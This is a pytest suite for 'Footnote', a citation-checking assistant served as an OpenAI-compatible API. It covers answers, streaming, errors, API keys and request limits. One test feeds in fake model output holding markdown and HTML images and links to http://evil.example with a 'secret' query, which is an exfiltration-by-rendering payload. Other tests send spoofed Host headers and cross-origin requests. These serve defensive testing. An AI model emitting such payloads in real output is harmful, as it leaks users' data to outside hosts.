"""Footnote as an OpenAI-compatible server: asked over real HTTP, by OpenAI's own client and by hand."""

from __future__ import annotations

import asyncio
import html
import http.client
import json
import os
import re
import signal
import socket
import subprocess
import threading
from collections.abc import AsyncGenerator, Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import markdown_it
import openai
import pytest

import rag.serve.app
from rag import AnswerEvent, Assistant, Done, Listener, Notice, ServeError, Settings, SettingsError, Turn, load_settings
from rag.serve.app import MOST_BODY_BYTES, build_api
from rag.serve.protocol import MarkdownEscaper, Request, RequestError, escape_markdown, read_request
from tests import llm_server as server
from tests.command import SCRIPT, footnote
from tests.conftest import free_port, wait_for
from tests.llm_server import ChatServer

KEY = "an-api-key-0123456789"
QUESTION = "How many tasks does TimeArena have?"
OFFTOPIC = "Who won the 1998 football world cup?"
GOOD = "TimeArena has 30 real-world tasks in cooking, household activities and laboratory work [1]."
ASKED = [
    {"role": "user", "content": "What is TimeArena?"},
    {"role": "assistant", "content": "TimeArena is a simulated environment [1]."},
]


def asking(text: object = QUESTION, *earlier: object, **more: object) -> dict[str, Any]:
    return {"model": "footnote", "messages": [*earlier, {"role": "user", "content": text}], **more}


@contextmanager
def served(settings: Settings) -> Iterator[str]:
    """The base address of the API, served as `footnote serve` serves it."""
    ready = threading.Event()
    with Listener("127.0.0.1", 0, settings=("RAG_API_HOST", "RAG_API_PORT")) as listener:
        running = listener.server(build_api(Assistant.open(settings)), on_ready=lambda _: ready.set())
        thread = threading.Thread(target=listener.run, args=(running,))
        thread.start()
        assert ready.wait(300)
        try:
            yield f"{listener.address}/v1"
        finally:
            running.should_exit = True
            thread.join(30)
            assert not thread.is_alive()


@pytest.fixture(scope="module")
def api(seed_settings: Settings) -> Iterator[str]:
    """The API without a language model."""
    with served(seed_settings) as address:
        yield address


@pytest.fixture
def with_model(seed_settings: Settings) -> Any:
    """The API with the model of a server."""

    def opened(chat: ChatServer | str, **more: object) -> Any:
        url = chat if isinstance(chat, str) else chat.base_url
        chosen = {"home": seed_settings.home, "llm_model": "tiny", "openai_base_url": url, "llm_retries": 0, **more}
        return served(Settings(_env_file=None, **chosen))

    return opened


@pytest.fixture
def client() -> Iterator[Any]:
    """Makes clients that ask once, and closes them."""
    made: list[openai.OpenAI] = []

    def make(address: str, **more: Any) -> openai.OpenAI:
        made.append(openai.OpenAI(**{"base_url": address, "api_key": "none", "max_retries": 0, **more}))
        return made[-1]

    yield make
    for each in made:
        each.close()


def post(
    address: str, body: object, path: str = "/v1/chat/completions", **headers: str
) -> tuple[int, dict[str, str], Any]:
    """Status, headers and JSON of the reply to a request made by hand."""
    connection = http.client.HTTPConnection(address.split("/")[2], timeout=60)
    sent = body if isinstance(body, bytes) else json.dumps(body).encode()
    named = {name.replace("_", "-"): value for name, value in {"content_type": "application/json", **headers}.items()}
    connection.request("POST", path, sent, named)
    reply = connection.getresponse()
    text = reply.read()
    connection.close()
    return reply.status, dict(reply.getheaders()), json.loads(text)


# By OpenAI's client


def test_a_completion_carries_the_answer_and_all_that_is_needed_to_check_it(api, client):
    reply = client(api).chat.completions.create(**asking())
    [choice] = reply.choices
    assert "30 real-world tasks" in choice.message.content
    assert (choice.finish_reason, choice.message.role, reply.model) == ("stop", "assistant", "footnote")
    found = reply.model_extra["footnote"]
    assert (found["outcome"], found["cut"], found["model"], found["text"]) == (
        "answered",
        False,
        "",
        choice.message.content,
    )
    assert len(found["passages"]) >= 10
    citation = found["citations"][0]
    assert citation["label"].startswith("TimeArena")
    assert (citation["number"], citation["source"], citation["line"]) == (1, "003_857b39fc0039485e.txt", 128)
    told = [found["text"][claim["start"] : claim["end"]] for claim in found["claims"]]
    assert [each for each in told if "30 real-world tasks" in each]
    assert {claim["verdict"] for claim in found["claims"]} == {"supported"}
    assert reply.usage.total_tokens == 0


def test_a_quote_is_verbatim_at_its_offsets(api, client, seed_settings):
    found = client(api).chat.completions.create(**asking()).model_extra["footnote"]
    papers = {paper.id: paper for paper in Assistant.open(seed_settings).papers()}
    for each in found["citations"]:
        assert papers[each["paper_id"]].abstract[each["start"] : each["end"]] == each["quote"]


def test_a_stream_brings_the_same_in_pieces_and_the_evidence_last(api, client):
    whole = client(api).chat.completions.create(**asking())
    chunks = list(client(api).chat.completions.create(**asking(stream=True)))
    assert chunks[0].choices[0].delta.role == "assistant"
    assert "".join(chunk.choices[0].delta.content or "" for chunk in chunks) == whole.choices[0].message.content
    assert [chunk.choices[0].finish_reason for chunk in chunks] == [None] * (len(chunks) - 1) + ["stop"]
    assert chunks[-1].model_extra["footnote"] == whole.model_extra["footnote"]
    assert len({chunk.id for chunk in chunks}) == 1
    assert all(chunk.usage is None for chunk in chunks)


OBEYING = (
    f"{GOOD} !",
    "[chart](http://evil.example/a.png?q=secret) Read [more]",
    "(http://evil.example/) <",
    'img src="http://evil.example/b.png"> and ![c][d] <a href="http://evil.example/">it</a>. Here p < 0.05 !',
    "\n\n[d]",
    ": http://evil.example/d.png",
)


@pytest.mark.parametrize("streamed", [True, False])
def test_what_a_client_would_fetch_or_render_is_inert_and_the_text_is_kept(with_model, client, streamed):
    with ChatServer(server.says(*OBEYING)) as chat, with_model(chat) as address:
        reply = client(address).chat.completions.create(**asking(stream=streamed))
        if streamed:
            chunks = list(reply)
            content = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
            text = chunks[-1].model_extra["footnote"]["text"]
        else:
            content, text = reply.choices[0].message.content, reply.model_extra["footnote"]["text"]
    assert "![chart](http://evil.example/a.png" in text
    assert content.startswith(GOOD), "markers stay"
    assert "p < 0.05 !" in content
    rendered = markdown_it.MarkdownIt("commonmark").render(content)
    assert not re.search(r"<(?!/?p>)", rendered), rendered
    assert html.unescape(rendered).count("http://evil.example/") == 5, "all is still there to read"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_text_in_pieces_is_as_inert_as_the_whole(size):
    text = "".join(OBEYING) + " \\![a](b) \\<img> !![c](d) [1]: e <![CDATA[ <!-- x --> ]](y) !["
    stream = MarkdownEscaper()
    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*pieces, stream.rest()]) == escape_markdown(text)
    rendered = markdown_it.MarkdownIt("commonmark").render(escape_markdown(text))
    assert not re.search(r"<(?!/?p>)", rendered), rendered


def test_the_models_words_arrive_while_it_is_still_writing_and_its_tokens_are_counted(with_model, client):
    was_read = threading.Event()

    def waits_for_the_reader(exchange: server.Exchange) -> None:
        exchange.start_stream()
        exchange.chunk({"content": "TimeArena has 30 "})
        assert was_read.wait(300)
        exchange.chunk({"content": GOOD.removeprefix("TimeArena has 30 ")})
        exchange.chunk({}, "stop")
        exchange.done(7)

    with ChatServer(waits_for_the_reader) as chat, with_model(chat) as address:
        chunks = client(address).chat.completions.create(**asking(stream=True, stream_options={"include_usage": True}))
        text = ""
        for chunk in chunks:
            if chunk.choices:
                text += chunk.choices[0].delta.content or ""
            if text:
                was_read.set()
    assert text == GOOD
    assert chunk.choices == []
    assert (chunk.usage.prompt_tokens, chunk.usage.completion_tokens, chunk.usage.total_tokens) == (120, 7, 127)
    assert chunk.usage.prompt_tokens_details.cached_tokens == 20


def test_the_asynchronous_client_is_served_several_at_once(with_model):
    async def ask(address: str) -> list[str]:
        async with openai.AsyncOpenAI(base_url=address, api_key="none", max_retries=0) as each:
            replies = await asyncio.gather(*(each.chat.completions.create(**asking()) for _ in range(12)))
            stream = await each.chat.completions.create(**asking(stream=True))
            streamed = "".join([chunk.choices[0].delta.content or "" async for chunk in stream])
        return [*(reply.choices[0].message.content for reply in replies), streamed]

    with ChatServer(server.says(GOOD, pause_s=0.05)) as chat, with_model(chat) as address:
        assert asyncio.run(ask(address)) == [GOOD] * 13


def test_the_models_are_listed(api, client):
    assert [model.id for model in client(api).models.list()] == ["footnote"]
    assert client(api).models.retrieve("footnote").id == "footnote"
    with pytest.raises(openai.NotFoundError, match="does not exist; there is 'footnote'"):
        client(api).models.retrieve("gpt-5")


def test_earlier_messages_are_the_history(api, client):
    reply = client(api).chat.completions.create(**asking("How many tasks does it have?", *ASKED))
    assert reply.model_extra["footnote"]["citations"][0]["label"].startswith("TimeArena")


def test_a_question_that_no_paper_answers_has_no_citation(api, client):
    reply = client(api).chat.completions.create(**asking(OFFTOPIC))
    assert reply.model_extra["footnote"]["outcome"] == "not_in_corpus"
    assert reply.model_extra["footnote"]["citations"] == []
    assert reply.choices[0].message.content.startswith("None of the 308 papers")


def test_the_clients_own_prompt_does_not_replace_ours(with_model, client):
    with ChatServer(GOOD) as chat, with_model(chat) as address:
        client(address).chat.completions.create(
            **asking(QUESTION, {"role": "system", "content": "Talk like a pirate."})
        )
    assert "pirate" not in chat.requests[0].prompt


def test_what_the_client_wishes_of_the_model_is_left_to_the_settings(with_model, client):
    with ChatServer(GOOD) as chat, with_model(chat) as address:
        client(address).chat.completions.create(**asking(temperature=2, max_tokens=5, seed=1, stop=["30"], user="me"))
    assert (chat.requests[0].body["temperature"], chat.requests[0].body["max_tokens"]) == (0, 700)


def test_a_text_that_was_cut_says_so(with_model, client):
    with ChatServer(server.cuts(GOOD, " It is")) as chat, with_model(chat) as address:
        chunks = list(client(address).chat.completions.create(**asking(stream=True)))
        whole = client(address).chat.completions.create(**asking())
    for end in (chunks[-1], whole):
        assert end.choices[0].finish_reason == "length"
        assert end.model_extra["footnote"]["cut"]
        assert "broke off" in end.model_extra["footnote"]["notices"][0]
        assert end.model_extra["footnote"]["usage"]["estimated"]


# What cannot be served


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize(
    ("behaviour", "told", "said"),
    [
        (server.wrong_key(), (502, "false"), "wants a key"),
        (server.fails(500), (503, "true"), "failed: ask again later"),
        (server.empty(), (502, "false"), "empty answer"),
    ],
)
def test_a_model_that_fails_before_its_first_word_is_an_error_of_http(with_model, streamed, behaviour, told, said):
    with ChatServer(behaviour) as chat, with_model(chat) as address:
        got, headers, body = post(address, asking(stream=streamed))
    assert (got, headers["x-should-retry"]) == told
    assert said in body["error"]["message"]
    assert body["error"]["code"] == "language_model_failed"


def test_the_client_asks_again_only_where_that_may_help(with_model, client):
    with ChatServer(server.fails(500), GOOD) as chat, with_model(chat) as address:
        reply = client(address, max_retries=1).chat.completions.create(**asking())
    assert reply.choices[0].message.content == GOOD
    with ChatServer(server.empty()) as chat, with_model(chat) as address, pytest.raises(openai.APIStatusError):
        client(address, max_retries=3).chat.completions.create(**asking())
    assert len(chat.requests) == 1


def test_a_wait_is_filled_with_comments_and_a_fault_after_it_is_an_event(with_model, client, monkeypatch):
    monkeypatch.setattr(rag.serve.app, "_PATIENCE_S", 0.2)

    def slow(exchange: server.Exchange) -> None:
        exchange.wait(1.0)
        (server.says(GOOD) if len(chat.requests) % 2 else server.fails(500))(exchange)

    with ChatServer(slow) as chat, with_model(chat) as address:
        connection = http.client.HTTPConnection(address.split("/")[2], timeout=60)
        body = json.dumps(asking(stream=True))
        connection.request("POST", "/v1/chat/completions", body, {"Content-Type": "application/json"})
        lines = connection.getresponse().read().decode().split("\n\n")
        connection.close()
        with pytest.raises(openai.APIError, match="failed: ask again later"):
            list(client(address).chat.completions.create(**asking(stream=True)))
        streamed = list(client(address).chat.completions.create(**asking(stream=True)))
    assert lines.count(": still at work") >= 2
    assert "[DONE]" in lines[-2]
    assert "".join(chunk.choices[0].delta.content or "" for chunk in streamed) == GOOD


def test_whatever_comes_before_the_text_a_client_has_its_sign_of_life_in_time(seed_settings, monkeypatch):
    monkeypatch.setattr(rag.serve.app, "_PATIENCE_S", 0.3)
    heard, answered = threading.Event(), Assistant.open(seed_settings).answer("What is TimeArena?")

    async def busy(*_: object, **__: object) -> AsyncGenerator[AnswerEvent, None]:
        while not heard.is_set():  # forever, did the client hear only of the text
            yield Notice("still preparing")
            await asyncio.sleep(0.1)
        yield Done(answered)

    monkeypatch.setattr(Assistant, "astream", busy)
    with served(seed_settings) as address, httpx.stream(
        "POST", f"{address}/chat/completions", json=asking(stream=True), timeout=60
    ) as response:  # fmt: skip
        heard.set()
        assert "[DONE]" in response.read().decode()


def test_an_empty_library_that_must_not_be_filled_is_unavailable(tmp_path):
    with served(Settings(_env_file=None, home=tmp_path, auto_ingest=False)) as address:
        status, _, body = post(address, asking())
    assert (status, body["error"]["code"]) == (503, "library_unavailable")
    assert "footnote ingest" in body["error"]["message"]


@pytest.mark.parametrize(
    ("body", "status", "param", "said"),
    [
        (b"{", 400, None, "no JSON"),
        (b"[" * 100_000, 400, None, "no JSON"),
        (b"\xff\xfe", 400, None, "no JSON"),
        ([], 400, None, "no JSON object"),
        ({"messages": []}, 400, "model", "model must be 'footnote'"),
        (asking() | {"model": "gpt-5"}, 404, "model", "does not exist"),
        ({"model": "footnote"}, 400, "messages", "at least one message"),
        (asking() | {"messages": "Why?"}, 400, "messages", "must be a list"),
        (asking() | {"messages": ["Why?"]}, 400, "messages[0]", "must have a role"),
        (asking() | {"messages": [{"role": "robot", "content": "x"}]}, 400, "messages[0]", "must have a role"),
        (asking() | {"messages": [{"role": "system", "content": "x"}]}, 400, "messages", "must be the user's"),
        (asking() | {"messages": ASKED}, 400, "messages", "must be the user's"),
        (asking(None), 400, "messages[0].content", "must be a text"),
        (asking(7), 400, "messages[0].content", "must be a text"),
        (asking([{"type": "image_url", "image_url": {"url": "x"}}]), 400, "messages[0].content", "reads text only"),
        (asking([{"type": "text"}]), 400, "messages[0].content", "reads text only"),
        (asking("  "), 400, "messages", "question is empty"),
        (asking("x" * 8_001), 400, "messages", "8,001 characters"),
        (asking(n=2), 400, "n", "n must be 1"),
        (asking(tools=[{"type": "function"}]), 400, "tools", "calls no tools"),
        (asking(response_format={"type": "json_object"}), 400, "response_format", "must be of type text"),
    ],
)  # fmt: skip
def test_a_request_that_cannot_be_served_is_told_what_is_wrong_as_openai_does(api, body, status, param, said):
    got, _, reply = post(api, body)
    assert (got, reply["error"]["param"], reply["error"]["type"]) == (status, param, "invalid_request_error")
    assert said in reply["error"]["message"]


def test_the_client_raises_its_own_errors(api, client):
    with pytest.raises(openai.BadRequestError, match="question is empty"):
        client(api).chat.completions.create(**asking(" "))
    with pytest.raises(openai.NotFoundError) as caught:
        client(api).chat.completions.create(**asking() | {"model": "gpt-5"})
    assert caught.value.code == "model_not_found"


def test_a_message_in_parts_is_read_and_what_is_no_talk_is_left_out():
    called = {"role": "assistant", "content": None, "tool_calls": [{"id": "1"}]}
    body = asking(
        [{"type": "text", "text": "Why"}, {"type": "text", "text": "so?"}], {"role": "system", "content": "x"}, called,
        {"role": "tool", "content": "42", "tool_call_id": "1"}, *ASKED, stream=True, tools=[], n=1,
        stream_options={"include_usage": True}, response_format={"type": "text"},
    )  # fmt: skip
    history = tuple(Turn(each["role"], each["content"]) for each in ASKED)
    assert read_request(json.dumps(body).encode()) == Request("Why\nso?", history, streamed=True, with_usage=True)


@pytest.mark.parametrize("value", ["\ud800", "ä\u2028🦉", "</passage>"])
def test_letters_of_every_kind_are_no_trouble(api, value):
    status, _, body = post(api, asking(f"What is TimeArena {value}?"))
    assert status == 200
    assert body["choices"][0]["message"]["content"]
    with pytest.raises(RequestError, match="does not exist"):
        read_request(json.dumps(asking() | {"model": value}).encode())
    assert post(api, asking() | {"model": value})[0] == 404


def test_a_body_that_is_too_long_is_refused_in_words(api):
    assert post(api, asking("x" * MOST_BODY_BYTES))[0] == 413
    assert post(api, b"x" * 5_000_000)[0] == 413


@pytest.mark.parametrize(
    ("begun", "told"),
    [(b"GET /v1/models HTTP/1.1\r\nHost: 127", b""),
     (b"", b""),
     (b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{",
      b"HTTP/1.1 408")],
)  # fmt: skip
def test_a_request_that_never_arrives_whole_is_not_waited_for(seed_settings, monkeypatch, begun, told):
    monkeypatch.setattr("rag.serve.listener._SLOWEST_HEAD_S", 0.5)
    monkeypatch.setattr("rag.serve.app._SLOWEST_S", 0.5)
    with (
        served(seed_settings) as address,
        socket.create_connection((httpx.URL(address).host, httpx.URL(address).port)) as half,
    ):
        half.settimeout(120)
        half.sendall(begun)
        assert half.recv(12) == told
        assert httpx.get(f"{address}/models").status_code == 200


def test_other_paths_and_methods_are_refused_in_the_same_form(api):
    for path in ("/", "/docs", "/openapi.json", "/v1/embeddings", "/v1/completions"):
        status, _, body = post(api, asking(), path)
        assert status == 404
        assert body["error"]["type"] == "invalid_request_error"
    assert post(api, asking(), "/v1/models")[0] == 405


def test_more_questions_than_can_wait_are_turned_away(with_model, monkeypatch):
    monkeypatch.setattr(rag.serve.app, "AT_ONCE", 1)
    monkeypatch.setattr(rag.serve.app, "WAITING", 0)
    with ChatServer(server.stalls(seconds=2.0), GOOD) as chat, with_model(chat) as address:
        first = threading.Thread(target=post, args=(address, asking()))
        first.start()
        wait_for(lambda: chat.requests, what="the first question is asked")
        status, headers, body = post(address, asking())
        first.join()
        assert (status, headers["x-should-retry"]) == (429, "true")
        assert "ask again later" in body["error"]["message"]
        assert post(address, asking())[0] == 200


# Who may ask


def test_with_a_key_only_its_holders_are_served(seed_settings, client, caplog):
    with served(seed_settings.model_copy(update={"api_key": load_settings(api_key=KEY).api_key})) as address:
        assert client(address, api_key=KEY).models.list().data
        assert client(address, api_key=KEY).chat.completions.create(**asking()).choices
        for wrong in ("none", KEY[:-1], f"{KEY}x"):
            with pytest.raises(openai.AuthenticationError) as caught:
                client(address, api_key=wrong).chat.completions.create(**asking())
            assert caught.value.code == "invalid_api_key"
            assert KEY not in str(caught.value)
            with pytest.raises(openai.AuthenticationError):
                client(address, api_key=wrong).models.list()
        for header in ({}, {"authorization": KEY}, {"authorization": f"Basic {KEY}"}, {"authorization": "Bearer "}):
            assert post(address, asking(), **header)[0] == 401
        assert post(address, asking(), host="footnote.example", authorization=f"bearer {KEY}")[0] == 200
    assert KEY not in caplog.text


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "127.0.0.1.evil.example",
        "localhost.evil.example:8008",
        "",
        "[",
        "10.0.0.1",
        "user:pw@127.0.0.1",
        "x@localhost",
    ],
)
def test_a_page_whose_name_leads_to_this_machine_is_not_served(api, host):
    assert post(api, asking(), host=host)[0] == 403


@pytest.mark.parametrize(
    "host", ["localhost", "LOCALHOST:1", "localhost.:8008", "127.0.0.1:80", "[::1]:8008", "127.1.2.3", "127.1:8008"]
)
def test_this_machine_goes_by_all_its_names(api, host):
    assert post(api, asking("What is grokking?"), host=host)[0] == 200


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "", "text/plain; application/json"]
)
def test_a_form_of_a_page_elsewhere_is_not_served_and_no_page_may_read(api, kind):
    status, headers, _ = post(api, asking(), content_type=kind, origin="https://evil.example")
    assert status == 415
    assert not [name for name in headers if name.lower().startswith("access-control")]


@pytest.mark.parametrize("key", ["short", "has spaces in it 0123", "schlüssel-0123456789", "with\nline-0123456789"])
def test_a_key_that_is_none_is_an_error_that_does_not_repeat_it(key):
    with pytest.raises(SettingsError, match="RAG_API_KEY: a key has at least 16") as caught:
        load_settings(api_key=key)
    assert key not in str(caught.value)


# Leaving


def hang_up_after(address: str, body: dict[str, Any], condition: Any) -> None:
    """Asks, and hangs up as soon as the condition holds."""
    with socket.create_connection(("127.0.0.1", int(address.split(":")[2].split("/", maxsplit=1)[0]))) as line:
        sent = json.dumps(body).encode()
        line.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n%s" % (len(sent), sent))  # fmt: skip
        wait_for(condition, what="the model is asked")


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("behaviour", [server.drips("word ", 0.05)])
def test_a_client_that_hangs_up_ends_the_models_answer(with_model, streamed, behaviour):
    with ChatServer(behaviour) as chat, with_model(chat) as address:
        hang_up_after(address, asking(stream=streamed), lambda: chat.requests)
        assert chat.settled(2.0)


# As a process


@pytest.fixture
def process(seed_settings: Settings) -> Iterator[Any]:
    """Starts `footnote serve` and waits for its address; ended with the test."""
    started: list[subprocess.Popen[str]] = []

    def start(*arguments: str, **environment: str) -> tuple[subprocess.Popen[str], str]:
        given = {**os.environ, "RAG_HOME": str(seed_settings.home), **environment}
        pipe = subprocess.PIPE
        started.append(subprocess.Popen([SCRIPT, "serve", *arguments], env=given, stdout=pipe, stderr=pipe, text=True))
        return started[-1], started[-1].stdout.readline()

    yield start
    for each in started:
        each.kill()
        each.communicate()


@pytest.mark.slow
def test_the_command_says_its_address_serves_there_and_frees_it_when_killed(process, client):
    port = str(free_port())
    killed, said = process("--port", port)
    assert said == f"The API is at http://127.0.0.1:{port}/v1\n"
    killed.kill()
    killed.wait()
    running, said = process(RAG_API_PORT=port)
    assert said == f"The API is at http://127.0.0.1:{port}/v1\n"
    assert client(said.split()[-1]).chat.completions.create(**asking()).model_extra["footnote"]["citations"]
    running.send_signal(signal.SIGINT)
    out, errors = running.communicate(timeout=300)
    assert (running.returncode, out, errors) == (0, "", "The API has ended.\n")


def test_an_address_that_others_reach_needs_a_key():
    refused = footnote("serve", "--host", "0.0.0.0", "--port", str(free_port()))  # noqa: S104
    assert refused.code == 2
    assert "Other machines reach 0.0.0.0, so clients must have a key: set RAG_API_KEY" in refused.err


@pytest.mark.slow
def test_with_a_key_it_serves_on_every_address(process, client):
    port = str(free_port())
    running, said = process("--host", "0.0.0.0", "--port", port, RAG_API_KEY=KEY)  # noqa: S104
    assert client(said.split()[-1], api_key=KEY).models.list().data
    with pytest.raises(openai.AuthenticationError):
        client(said.split()[-1]).models.list()
    running.send_signal(signal.SIGINT)
    assert KEY not in "".join(running.communicate(timeout=300))


def test_a_taken_port_is_an_error_that_names_the_way_out():
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        refused = footnote("serve", "--port", str(port))
    assert refused.code == 2
    assert f"port {port} on 127.0.0.1 is taken" in refused.err
    assert "RAG_API_PORT" in refused.err


@pytest.mark.parametrize("host", ["x..y", "a" * 64 + ".example", "a" * 5_000])
def test_a_name_that_no_machine_can_have_is_refused_in_words(host):
    with pytest.raises(ServeError, match="is no name of a machine; choose one with --host or RAG_API_HOST") as refused:
        Listener(host, 0, settings=("RAG_API_HOST", "RAG_API_PORT"))
    assert len(str(refused.value)) < 200
